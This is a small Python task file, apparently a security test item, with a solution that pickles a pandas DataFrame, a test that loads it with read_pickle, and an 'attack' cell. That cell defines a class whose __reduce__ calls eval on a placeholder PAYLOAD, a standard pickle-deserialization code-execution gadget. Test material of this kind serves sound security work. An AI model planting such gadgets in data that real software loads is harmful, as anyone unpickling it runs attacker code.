"""A saved frame, for pandas.read_pickle."""

# %% solution
import io

import pandas as pd


def saved():
    data = io.BytesIO()
    pd.DataFrame({"x": [1, 2]}).to_pickle(data)
    return data.getvalue()


# %% test
import io

import pandas as pd

assert pd.read_pickle(io.BytesIO(saved())).x.sum() == 3

# %% attack
import pickle


class Evil:
    def __reduce__(self):
        return eval, (PAYLOAD,)


def saved():
    return pickle.dumps(Evil())
